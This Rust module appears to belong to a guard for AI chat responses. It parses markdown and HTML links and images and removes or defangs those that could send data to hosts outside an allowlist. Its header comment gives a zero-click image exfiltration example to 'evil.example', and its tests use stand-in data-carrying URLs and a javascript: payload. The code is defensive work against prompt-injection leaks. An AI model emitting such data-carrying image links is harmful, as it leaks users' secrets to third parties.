//! Exfiltration through links and images: the markdown and HTML link
//! parser the response checks rewrite with (`crate::response`) and the
//! content check reads (`crate::inject::assess_context`).
//!
//! Chat UIs render markdown; an image loads by itself, so
//! `![](https://evil.example/log?d=<secret>)` sends data the moment it is
//! shown (the known zero-click channel). Handled forms: markdown images
//! and inline links (`![alt](url "title")`, `[text](url)`) and HTML
//! `<img ... src=...>` / `<a ... href=...>` tags. Reference-style links,
//! autolinks and bare URLs are not rewritten (they need a click).
//!
//! Decisions for a URL whose host is not on `response.allowedHosts`
//! (exact, or `*.suffix` for the suffix and its subdomains; relative URLs
//! and `data:` images never leave the page and are allowed):
//! - image: always removed (markdown keeps its alt text, HTML drops the
//!   tag); action `redact`.
//! - link that carries data (long, high-entropy, percent-encoded or
//!   `@`-bearing query/path values, or a pseudonym token): defanged, the
//!   link text stays and the URL goes; action `redact`.
//! - other links: `flag` (text untouched).
//! - `javascript:`, `vbscript:` and `data:` links are always defanged.
//!
//! Findings: kind `exfiltration`, type `IMAGE` or `LINK`.

use std::ops::Range;

/// Longest label/alt text, URL and title considered, in bytes.
pub(crate) const MAX_LABEL: usize = 1024;
pub(crate) const MAX_URL: usize = 2048;
pub(crate) const MAX_TITLE: usize = 256;
/// Longest HTML tag considered.
pub(crate) const MAX_TAG: usize = 2048;

pub(crate) struct Link {
    pub span: Range<usize>,
    pub url: Range<usize>,
    /// Visible text (markdown label / alt), if any.
    pub label: Range<usize>,
    pub image: bool,
    pub html: bool,
}

enum Parse {
    Done(Link),
    More,
    Fail,
}

/// Every link and image, left to right, plus the earliest start of an
/// unfinished one at the end (`text.len()` if none).
pub(crate) fn find(text: &str) -> (Vec<Link>, usize) {
    let t = text.as_bytes();
    let mut out = Vec::new();
    let mut pending = t.len();
    let mut i = 0;
    while i < t.len() {
        let r = match t[i] {
            b'!' if i + 1 == t.len() => Parse::More,
            b'!' if t[i + 1] == b'[' => markdown(t, i, true),
            b'[' => markdown(t, i, false),
            b'<' => html(t, i),
            _ => Parse::Fail,
        };
        match r {
            Parse::Done(l) => {
                i = l.span.end;
                out.push(l);
                continue;
            }
            Parse::More => pending = pending.min(i),
            Parse::Fail => {}
        }
        i += 1;
    }
    (out, pending)
}

fn markdown(t: &[u8], start: usize, image: bool) -> Parse {
    let mut i = start + if image { 2 } else { 1 };
    let label_start = i;
    loop {
        match t.get(i) {
            None => return Parse::More,
            Some(b']') => break,
            Some(b'\n') => return Parse::Fail,
            Some(_) if i - label_start >= MAX_LABEL => return Parse::Fail,
            Some(_) => i += 1,
        }
    }
    let label = label_start..i;
    i += 1;
    match t.get(i) {
        None => return Parse::More,
        Some(b'(') => i += 1,
        Some(_) => return Parse::Fail,
    }
    while t.get(i) == Some(&b' ') {
        i += 1;
    }
    let angle = t.get(i) == Some(&b'<');
    if angle {
        i += 1;
    }
    let url_start = i;
    let mut depth = 0usize;
    loop {
        match t.get(i) {
            None => return Parse::More,
            Some(b'>') if angle => break,
            Some(b'(') if !angle => {
                depth += 1;
                i += 1;
            }
            Some(b')') if !angle && depth > 0 => {
                depth -= 1;
                i += 1;
            }
            Some(b')') if !angle => break,
            Some(c) if c.is_ascii_whitespace() => break,
            Some(b'<') if angle => return Parse::Fail,
            Some(_) if i - url_start >= MAX_URL => return Parse::Fail,
            Some(_) => i += 1,
        }
    }
    let url = url_start..i;
    if url.is_empty() {
        return Parse::Fail;
    }
    if angle {
        i += 1;
    }
    while t.get(i).is_some_and(|c| *c == b' ') {
        i += 1;
    }
    if let Some(&q @ (b'"' | b'\'')) = t.get(i) {
        let ts = i;
        i += 1;
        loop {
            match t.get(i) {
                None => return Parse::More,
                Some(&c) if c == q => break,
                Some(b'\n') => return Parse::Fail,
                Some(_) if i - ts > MAX_TITLE => return Parse::Fail,
                Some(_) => i += 1,
            }
        }
        i += 1;
        while t.get(i) == Some(&b' ') {
            i += 1;
        }
    }
    match t.get(i) {
        None => Parse::More,
        Some(b')') => Parse::Done(Link {
            span: start..i + 1,
            url,
            label,
            image,
            html: false,
        }),
        Some(_) => Parse::Fail,
    }
}

fn html(t: &[u8], start: usize) -> Parse {
    let rest = &t[start + 1..];
    let (image, name) = if starts_ci(rest, b"img") {
        (true, 3)
    } else if starts_ci(rest, b"a") {
        (false, 1)
    } else {
        let n = rest.len();
        return if n < 3 && b"img"[..n].eq_ignore_ascii_case(rest) {
            Parse::More
        } else {
            Parse::Fail
        };
    };
    let mut i = start + 1 + name;
    match t.get(i) {
        None => return Parse::More,
        Some(c) if c.is_ascii_whitespace() => {}
        Some(_) => return Parse::Fail,
    }
    let attrs = i;
    loop {
        match t.get(i) {
            None => return Parse::More,
            Some(b'>') => break,
            Some(b'<') => return Parse::Fail,
            Some(_) if i - start >= MAX_TAG => return Parse::Fail,
            Some(_) => i += 1,
        }
    }
    let want: &[u8] = if image { b"src" } else { b"href" };
    let Some(url) = attr(t, attrs..i, want) else { return Parse::Fail };
    Parse::Done(Link {
        span: start..i + 1,
        url,
        label: i + 1..i + 1,
        image,
        html: true,
    })
}

fn starts_ci(t: &[u8], p: &[u8]) -> bool {
    t.len() >= p.len() && t[..p.len()].eq_ignore_ascii_case(p)
}

/// Value range of attribute `name` in the tag body `r`.
fn attr(t: &[u8], r: Range<usize>, name: &[u8]) -> Option<Range<usize>> {
    let mut i = r.start;
    while i < r.end {
        let at_word = i == r.start || t[i - 1].is_ascii_whitespace();
        if at_word && starts_ci(&t[i..r.end], name) {
            let mut j = i + name.len();
            while j < r.end && t[j].is_ascii_whitespace() {
                j += 1;
            }
            if j < r.end && t[j] == b'=' {
                j += 1;
                while j < r.end && t[j].is_ascii_whitespace() {
                    j += 1;
                }
                if j >= r.end {
                    return None;
                }
                let (s, stop): (usize, &[u8]) = match t[j] {
                    b'"' => (j + 1, b"\""),
                    b'\'' => (j + 1, b"'"),
                    _ => (j, b" \t\n\r>"),
                };
                let mut e = s;
                while e < r.end && !stop.contains(&t[e]) {
                    e += 1;
                }
                return Some(s..e);
            }
        }
        i += 1;
    }
    None
}

/// The host of an absolute or protocol-relative URL (lowercase, with
/// port), or `None` for relative URLs and schemes without a host.
pub(crate) fn host(url: &str) -> Option<String> {
    let lower = url.trim().to_ascii_lowercase();
    let rest = if let Some(r) = lower.strip_prefix("//") {
        r
    } else {
        let (scheme, r) = lower.split_once("://")?;
        if !scheme
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b))
        {
            return None;
        }
        r
    };
    let auth = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
    let host = auth.rsplit('@').next().unwrap_or("");
    Some(host.to_string())
}

/// True for schemes that run code or embed content.
pub(crate) fn dangerous_scheme(url: &str) -> bool {
    let u: String = url
        .trim()
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .take(16)
        .collect::<String>()
        .to_ascii_lowercase();
    u.starts_with("javascript:")
        || u.starts_with("vbscript:")
        || u.starts_with("data:")
}

pub(crate) fn host_allowed(host: &str, allowed: &[String]) -> bool {
    let bare = host.split(':').next().unwrap_or(host);
    allowed.iter().any(|a| match a.strip_prefix("*.") {
        Some(sfx) => {
            let dotted =
                |h: &str| h == sfx || h.ends_with(&format!(".{}", sfx));
            dotted(host) || dotted(bare)
        }
        None => a == host || a == bare,
    })
}

fn looks_like_data(v: &[u8]) -> bool {
    let pct = v
        .windows(3)
        .filter(|w| {
            w[0] == b'%'
                && w[1].is_ascii_hexdigit()
                && w[2].is_ascii_hexdigit()
        })
        .count();
    let alpha = v.iter().any(|b| b.is_ascii_alphabetic());
    let digit = v.iter().any(|b| b.is_ascii_digit());
    v.len() >= 32
        || pct >= 3
        || v.contains(&b'@')
        || v.windows(3).any(|w| w.eq_ignore_ascii_case(b"%40"))
        || (v.len() >= 16
            && alpha
            && digit
            && crate::validate::entropy(v) >= 3.3)
}

/// Does the URL carry data in its path, query or fragment?
pub(crate) fn carries_data(url: &str) -> bool {
    let b = url.as_bytes();
    let lower = url.to_ascii_lowercase();
    if b.contains(&b'[') || b.contains(&b']') || lower.contains("%5b") {
        return true; // a pseudonym token or bracketed payload
    }
    let after_host = match host(url) {
        Some(_) => {
            let start = lower.find("//").map_or(0, |i| i + 2);
            let rest = &url[start..];
            rest.find(['/', '?', '#']).map_or("", |i| &rest[i..])
        }
        None => url,
    };
    let (path, query) = match after_host.find(['?', '#']) {
        Some(i) => (&after_host[..i], &after_host[i + 1..]),
        None => (after_host, ""),
    };
    if query.len() >= 96 {
        return true;
    }
    let q = query
        .split(['&', '#', ';'])
        .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v));
    path.split('/').chain(q).any(|v| looks_like_data(v.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_forms_and_pending() {
        let t = "a ![x](https://e.test/i.png) b [t](http://h.test \"ti\") \
                 <img src=\"//x.test/p\"> <a href='http://y.test'>y</a>";
        let (l, p) = find(t);
        assert_eq!(p, t.len());
        assert_eq!(l.len(), 4);
        assert_eq!(&t[l[0].url.clone()], "https://e.test/i.png");
        assert!(l[0].image && !l[1].image && l[2].image && !l[3].image);
        assert_eq!(&t[l[3].url.clone()], "http://y.test");
        assert_eq!(find("see [te").1, 4);
        assert_eq!(find("see ![te](http://x").1, 4);
        assert_eq!(find("a <im").1, 2);
        assert_eq!(find("a <b>").1, 5);
        assert_eq!(find("a [b] c").1, 7);
        assert_eq!(find("wow!").1, 3);
    }

    #[test]
    fn hosts_and_data() {
        assert_eq!(
            host("https://u:p@Evil.test:8080/x").as_deref(),
            Some("evil.test:8080")
        );
        assert_eq!(host("/relative"), None);
        assert!(host_allowed("img.example.com", &["*.example.com".into()]));
        assert!(!host_allowed(
            "example.com.evil.test",
            &["*.example.com".into()]
        ));
        assert!(carries_data("https://e.test/log?d=ana%40x.com"));
        assert!(carries_data(
            "https://e.test/p/aGVsbG8gd29ybGQgc2VjcmV0IGtleQ"
        ));
        assert!(carries_data("https://e.test/?q=[EMAIL_1]"));
        assert!(!carries_data(
            "https://docs.e.test/guide/getting-started?utm_source=chat"
        ));
        assert!(!carries_data(
            "https://e.test/wiki/Rust_(programming_language)"
        ));
        assert!(dangerous_scheme(" JavaScript:alert(1)"));
    }
}
